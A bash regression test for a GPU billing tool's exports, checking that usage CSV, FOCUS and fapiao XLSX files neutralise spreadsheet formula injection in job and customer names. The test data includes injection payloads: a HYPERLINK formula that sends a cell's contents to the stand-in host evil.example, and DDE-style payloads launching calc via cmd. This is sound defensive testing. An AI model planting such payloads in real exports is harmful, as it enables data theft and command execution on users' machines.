#!/bin/bash
# Exports safe to open (issue 31): a job name or a customer name that a
# spreadsheet would evaluate (= + - @, tab, carriage return) is written to
# the usage CSV (/v1/usage?format=csv, the console's download) and to FOCUS
# (BillingAccountName) as text, a single quote before it; FOCUS still
# passes focus-validator and its negative amounts stay numbers; the fapiao
# XLSX reads back exactly the buyer's name, `_x0041_` included.
. "$(dirname "$0")/lib.sh"

fresh || { fail "set up database and topic"; finish; }
cat >>"$GPUMETER_CONFIG" <<'CONF'
invoice.seller = 上海临港算力科技有限公司
invoice.seller_tax_id = 91310000MA1FL6TEST
fapiao.tax_code = 3040203000000000000
CONF
# One hostile name per prefix. As alpha's name when the invoice of month
# 1..6 is issued; as a job's name in January (the collectors refuse a
# control character in a job, so the tab and CR jobs are put in SQL: the
# writer must not rely on what the collectors let in, nor on what
# `customer add` does, which refuses them in a name too).
names=('=HYPERLINK("http://evil.example/?"&A1,"open")' '@SUM(1+1)*cmd|'"'"'/c calc'"'"'!A0' '+1+1' '-2+3'
    $'\t=1+1' $'\r=1+1')
what=("=" "@" "+" "-" "tab" "CR")
# each as a CSV reader gets it: a quote before it, and one after the tab or
# CR too, where a reader splitting on tabs or lines starts a cell (csv.h)
texts=("'${names[0]}" "'${names[1]}" "'${names[2]}" "'${names[3]}" $'\'\t\'=1+1' $'\'\r\'=1+1')
json() { python3 -c 'import json, sys; print(json.dumps(sys.argv[1]))' "$1"; }
for m in 1 2 3 4 5 6; do
    printf 'x\t{"v":1,"source":"x","seq":%d,"account":"ns-alpha","cluster":"c","site":"s","model":"H800","vendor":"nvidia","job":"train","gpu_ms":3600000,"start":"2026-0%d-10T02:00:00Z","end":"2026-0%d-10T03:00:00Z"}\n' \
        "$m" "$m" "$m"
done | kcat -P -b "$GPUMETER_KAFKA_BROKERS" -t "$GPUMETER_TOPIC" -K '\t'
for i in 0 1 2 3; do
    printf 'x\t{"v":1,"source":"x","seq":%d,"account":"ns-alpha","cluster":"c","site":"s","model":"H800","vendor":"nvidia","job":%s,"gpu_ms":3600000,"start":"2026-01-11T0%d:00:00Z","end":"2026-01-11T0%d:10:00Z"}\n' \
        $((10 + i)) "$(json "${names[i]}")" "$i" "$i"
done | kcat -P -b "$GPUMETER_KAFKA_BROKERS" -t "$GPUMETER_TOPIC" -K '\t'
"$GM" rate --until-idle 2>/dev/null
for i in 4 5; do
    echo "INSERT INTO usage_hourly (account, hour, meter, model, vendor, site, cluster, job, quantity,
                                    events, first_ingest, last_ingest)
          VALUES ('ns-alpha', '2026-01-11T0$i:00:00Z', 'gpu_ms', 'H800', 'nvidia', 's', 'c', :'job',
                  3600000, 1, now(), now())" | pg -v job="${names[i]}"
done
check_eq "every hostile job name is in usage as it came" 6 \
    "$(q "SELECT count(DISTINCT job) FROM usage_hourly WHERE account = 'ns-alpha' AND job <> 'train'")"
for m in 1 2 3 4 5 6; do
    echo "UPDATE customer SET name = :'name' WHERE code = 'alpha'" | pg -v name="${names[m - 1]}"
    "$GM" invoice run --period 2026-0$m --customer alpha >/dev/null 2>&1
    "$GM" invoice issue --period 2026-0$m --customer alpha >/dev/null 2>&1
done
check_eq "six invoices issued, each to the name of its month" 6 \
    "$(q "SELECT count(DISTINCT buyer_name) FROM invoice WHERE status = 'issued'")"

# The usage CSV, read as a program reads it: each hostile job is its name
# with a quote before it; the times and quantities are as before.
start_server "$TMP/serve.log" --threads 2 || { fail "start the API"; finish; }
trap 'kill $SERVER 2>/dev/null; cleanup' EXIT
KA=$("$GM" customer key create alpha 2>/dev/null)
curl -s -H "Authorization: Bearer $KA" \
    "$U/v1/usage?from=2026-01-11&to=2026-01-11&group_by=hour,job&format=csv" -o "$TMP/usage.csv"
cell() { # csv row column -> the value a CSV reader gets
    python3 -c 'import csv, sys
rows = list(csv.DictReader(open(sys.argv[1], newline="", encoding="utf-8")))
print(rows[int(sys.argv[2])][sys.argv[3]], end="")' "$@"
}
# the job of the row at hour H (the contract's zone is UTC+8)
job_at() { python3 -c 'import csv, sys
print("".join(r["job"] for r in csv.DictReader(open(sys.argv[1], newline="", encoding="utf-8"))
              if r["time"].endswith(sys.argv[2])), end="")' "$TMP/usage.csv" "$1"; }
for i in 0 1 2 3 4 5; do
    check_eq "usage CSV: a job name beginning with ${what[i]} is text" "${texts[i]}" \
        "$(job_at "$(printf T%02d:00 $((8 + i)))")"
done
check_eq "usage CSV: each hostile cell is quoted, its quote inside" 6 "$(grep -c "^[^,]*,\"'" "$TMP/usage.csv")"
check_eq "usage CSV: times and quantities as they were" \
    "2026-01-11T08:00 3600000|2026-01-11T13:00 3600000" \
    "$(cell "$TMP/usage.csv" 0 time | cut -c1-16) $(cell "$TMP/usage.csv" 0 quantity)|$(cell "$TMP/usage.csv" 5 time | cut -c1-16) $(cell "$TMP/usage.csv" 5 quantity)"

# A formula behind blanks or behind a ';' (found with LibreOffice 7.4: its
# "Trim spaces" evaluates an unquoted " =1+1", and with ';' as separator
# an unquoted "x;=1+1" opens a cell holding a formula). January 12th.
hidden=(' =HYPERLINK("http://evil.example/","open")' 'x;=cmd|'"'"' /C calc'"'"'!A0' $'a\t=1+1')
for i in 0 1 2; do
    echo "INSERT INTO usage_hourly (account, hour, meter, model, vendor, site, cluster, job, quantity,
                                    events, first_ingest, last_ingest)
          VALUES ('ns-alpha', '2026-01-12T0$i:00:00Z', 'gpu_ms', 'H800', 'nvidia', 's', 'c', :'job',
                  3600000, 1, now(), now())" | pg -v job="${hidden[i]}"
done
curl -s -H "Authorization: Bearer $KA" \
    "$U/v1/usage?from=2026-01-12&to=2026-01-12&group_by=hour,job&format=csv" -o "$TMP/hidden.csv"
check_eq "usage CSV: a formula behind a blank is text, its blank kept" \
    "'${hidden[0]}" "$(cell "$TMP/hidden.csv" 0 job)"
check_eq "usage CSV: a formula after a ';' or a tab gets its quote too" \
    "x;'=cmd|' /C calc'!A0|a"$'\t'"'=1+1" \
    "$(cell "$TMP/hidden.csv" 1 job)|$(cell "$TMP/hidden.csv" 2 job)"
check_eq "usage CSV: all three quoted, so no reader splits or trims them" 3 \
    "$(grep -c '^[^,]*,"' "$TMP/hidden.csv")"
# The same file as LibreOffice opens it with ',', ';' or tab as separator,
# spaces trimmed and formulas evaluated: no cell holds a formula.
if command -v soffice >/dev/null; then
    for sep in 44 59 9; do
        rm -f "$TMP/hidden.ods"
        (cd "$TMP" && HOME=$TMP timeout 300 soffice --headless \
            --infilter="CSV:$sep,34,76,1,,1033,false,true,false,false,true,-1,true" \
            --convert-to ods hidden.csv >/dev/null 2>&1)
        check_eq "LibreOffice (separator $sep) evaluates no cell of the usage CSV" "0 formulas" \
            "$(python3 -c 'import sys, zipfile
xml = zipfile.ZipFile(sys.argv[1]).read("content.xml").decode()
print(xml.count("table:formula="), "formulas")' "$TMP/hidden.ods" 2>&1)"
    done
else
    echo "ok - LibreOffice evaluates no cell of the usage CSV # SKIP soffice not installed"
fi

# FOCUS: BillingAccountName, from `export focus` and GET /v1/focus alike.
for m in 1 2 3 4 5 6; do
    "$GM" export focus --period 2026-0$m --output "$TMP/focus$m.csv"
    check_eq "FOCUS: a customer name beginning with ${what[m - 1]} is text" "${texts[m - 1]}" \
        "$(cell "$TMP/focus$m.csv" 0 BillingAccountName)"
done
KF=$("$GM" customer key create --finance 2>/dev/null)
curl -s -H "Authorization: Bearer $KF" "$U/v1/focus?period=2026-01" -o "$TMP/api-focus.csv"
check_eq "GET /v1/focus writes the same bytes" "" "$(diff "$TMP/focus1.csv" "$TMP/api-focus.csv" 2>&1)"
check_match "focus-validator 1.0 still accepts it" "Validation succeeded" "$(focus_validate "$TMP/focus1.csv")"
# The fapiao XLSX: OOXML reads _xHHHH_ in a cell as the character HHHH, so
# a name that holds one must read back as written, not as "A".
for name in 'Alpha _x0041_ Ltd' 'Beta _x005F_x0041_ 有限公司' '_x00e9__X0041_'; do
    q "DELETE FROM invoice WHERE status = 'draft'" >/dev/null
    echo "UPDATE customer SET name = :'name' WHERE code = 'alpha'" | pg -v name="$name"
    "$GM" invoice void "$(q "SELECT number FROM invoice WHERE period = '2026-03-01' AND kind = 'invoice' AND status = 'issued'")" \
        --reason "renamed" >/dev/null 2>&1
    "$GM" invoice run --period 2026-03 --customer alpha >/dev/null 2>&1
    "$GM" invoice issue --period 2026-03 --customer alpha >/dev/null 2>&1
    "$GM" export etax --period 2026-03 --output "$TMP/etax.xlsx" >/dev/null 2>&1
    check_eq "fapiao XLSX: the buyer [$name] reads back exactly" "$name" \
        "$(python3 "$ROOT/tests/tools/xlsx_cells.py" "$TMP/etax.xlsx" | grep '^1-发票基本信息!4' | tr '\t' '\n' | sed -n 's/^F=//p')"
done
sanitizer_clean "the server ran clean" "$TMP/serve.log"
finish
